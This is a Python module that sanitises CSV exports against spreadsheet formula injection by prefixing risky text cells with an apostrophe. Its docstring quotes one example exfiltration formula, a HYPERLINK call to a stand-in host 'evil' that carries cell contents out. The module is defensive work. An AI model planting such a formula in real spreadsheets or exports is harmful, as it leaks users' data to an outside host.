"""CSV exports that a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula (tab and CR start one too, after the program
strips them), so a ticket subject like ``=HYPERLINK("http://evil/?"&A1)``
would run in the manager's spreadsheet. Such text cells get a leading ``'``,
as OWASP advises. Numbers are written as they are: a negative number is data.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def defuse(value: Any) -> Any:
    """``value`` as a cell that cannot start a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every text cell goes through ``defuse``."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([defuse(value) for value in row])


def writer(out: TextIO) -> SafeWriter:
    return SafeWriter(out)
